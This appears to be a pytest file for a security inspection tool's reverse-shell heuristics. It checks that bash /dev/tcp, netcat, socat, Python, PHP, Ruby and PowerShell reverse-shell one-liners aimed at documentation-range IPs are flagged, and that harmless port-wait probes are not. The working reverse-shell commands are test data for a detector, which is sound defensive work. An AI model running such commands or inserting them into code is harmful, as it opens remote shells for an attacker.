"""Reverse and bind shells; a wait-for-port loop over /dev/tcp is not one."""

from __future__ import annotations

import pytest

from inspector.model import ArtifactType
from tests.analyzers.heuristics.helpers import ids, score


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "heur.reverse_shells.dev_tcp"),
        ("exec 5<>/dev/tcp/203.0.113.5/80;cat <&5 | while read l; do $l 2>&5 >&5; done", "heur.reverse_shells.dev_tcp"),
        ("nc -e /bin/sh 203.0.113.5 4444", "heur.reverse_shells.netcat_exec"),
        ("ncat 203.0.113.5 443 -e cmd.exe", "heur.reverse_shells.netcat_exec"),
        ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 1337 >/tmp/f",
         "heur.reverse_shells.netcat_exec"),
        ("socat exec:'bash -li',pty,stderr tcp:203.0.113.5:4444", "heur.reverse_shells.socat_exec"),
        ("python -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",9));"
         "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'", "heur.reverse_shells.interpreter_one_liner"),
        ("php -r '$s=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
         "heur.reverse_shells.interpreter_one_liner"),
        ("ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.5\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
         "heur.reverse_shells.interpreter_one_liner"),
    ],
)
def test_shell_reverse_shells_are_malicious_alone(text: str, expected: str) -> None:
    assert expected in ids(text)
    assert score(text) >= 300


def test_powershell_tcp_reverse_shell() -> None:
    text = (
        "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',443);$s = $c.GetStream();"
        "while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (iex $x 2>&1 | Out-String)}"
    )
    assert "heur.reverse_shells.powershell_tcp" in ids(text, ArtifactType.POWERSHELL)
    assert score(text, ArtifactType.POWERSHELL) >= 300


def test_port_probes_are_not_shells() -> None:
    probe = 'until timeout 1 bash -c "</dev/tcp/db/5432"; do sleep 2; done'
    assert "heur.reverse_shells.dev_tcp" not in ids(probe)
    assert score(probe) < 100
    ps_probe = "$c = New-Object System.Net.Sockets.TcpClient; $c.Connect('db01', 1433); $c.Close()"
    assert score(ps_probe, ArtifactType.POWERSHELL) < 100


def test_a_python_reverse_shell_written_as_a_script() -> None:
    text = (
        "python3 - <<'PY'\nimport socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
        's.connect(("198.51.100.8",443))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\n'
        'subprocess.call(["/bin/bash","-i"])\nPY\n'
    )
    assert "heur.reverse_shells.interpreter_one_liner" in ids(text)
    assert score(text) >= 300
